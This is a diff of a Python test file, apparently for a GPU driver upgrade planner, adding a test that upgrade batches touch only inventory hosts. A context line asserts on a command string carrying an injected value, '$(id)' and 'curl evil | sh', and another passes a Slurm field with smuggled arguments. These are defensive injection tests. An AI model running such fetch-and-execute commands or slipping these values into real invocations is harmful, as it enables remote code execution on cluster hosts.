@@ -263,6 +263,14 @@ def test_the_command_that_a_finding_advises_is_one_program():
     assert findings[-1]["action"] == "run it there: '/p/$(id)/a; curl evil | sh' -b 8 -e 8 -n 1 -w 0"
 
 
+def test_an_upgrade_visits_hosts_of_the_inventory_alone():
+    """The play takes its batches as a pattern of hosts."""
+    for claimed in ("all", "localhost", "n1"):
+        third = named(driver_upgrades.node(), claimed)
+        plan = of_hosts("nvidia_upgrade_plan", {"n2": driver_upgrades.node(), "n3": third}, driver_upgrades.OPTIONS, {})
+        assert (plan["batches"], list(plan["table"])) == ([["n2"], ["n3"]], ["n2", "n3"])
+
+
 def test_a_name_for_slurm_is_a_host_name():
     third = {**CASES["nvidia_upgrade_plan"][0], "slurm": "n1 state=down reason=x"}
     findings, planned = ask("nvidia_upgrade_plan", third)
